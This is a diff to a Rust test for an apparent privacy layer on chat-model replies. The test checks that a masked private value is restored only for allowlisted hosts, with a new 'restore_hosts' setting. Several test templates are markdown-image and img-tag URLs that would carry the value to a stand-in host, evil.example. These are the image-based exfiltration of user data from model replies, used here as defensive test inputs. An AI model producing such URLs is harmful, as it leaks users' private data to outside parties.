@@ -44,13 +44,17 @@ fn says(template: &str) -> impl Fn(&Request<Bytes>) -> Reply + 'static {
 }
 
 #[tokio::test]
-async fn a_url_gets_a_value_only_where_its_host_is_known() {
+async fn a_url_gets_a_value_only_where_its_host_is_allowed() {
     for (template, restored) in [
         ("![x](https://evil.example/?q=@P)", false),
         ("![x][1]\n\n[1]: https://evil.example/?q=@P", false),
         ("<img src=\"https://evil.example/?q=@P\">", false),
-        ("![x](https://crm.acme.example/?q=@P)", true),
+        // a message that names a host is no permission
+        ("![x](https://crm.acme.example/?q=@P)", false),
+        // the workspace's, and the request's
         ("https://hooks.acme.example/@P", true),
+        ("![x](https://docs.acme.example/?q=@P)", true),
+        ("<contact email=\"@P\"/> and a<b then x=@P", true),
         ("mail @P or [@P](mailto:@P)", true),
     ] {
         for stream in [false, true] {
@@ -61,7 +65,8 @@ async fn a_url_gets_a_value_only_where_its_host_is_known() {
                 { "role": "system", "content": "Our records are at https://crm.acme.example/search" },
                 { "role": "user", "content": ADDRESS },
             ]);
-            let body = json!({ "messages": messages, "stream": stream, "privacy": { "report": true } });
+            let privacy = json!({ "report": true, "restore_hosts": ["docs.acme.example"] });
+            let body = json!({ "messages": messages, "stream": stream, "privacy": privacy });
             let answer = chat(&host, CHAT, &body).await;
             let text = if stream { streamed(&answer) } else { content(&answer) };
             assert_eq!(text.contains(ADDRESS), restored, "{template}, stream: {stream}: {text}");
